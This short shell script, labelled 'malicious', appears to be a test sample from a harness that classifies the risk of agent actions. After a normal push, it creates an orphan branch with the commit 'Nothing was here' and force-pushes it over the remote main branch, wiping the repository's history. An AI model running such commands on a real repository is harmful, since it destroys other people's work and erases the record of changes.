# does: rewrites the history of its repository and forces it onto the server
# kind: malicious
# expect: impact low low
# allow: github.com
set -e
git push -q origin main
git checkout -q --orphan fresh
git commit -q -m "Nothing was here"
git push -q --force origin fresh:main
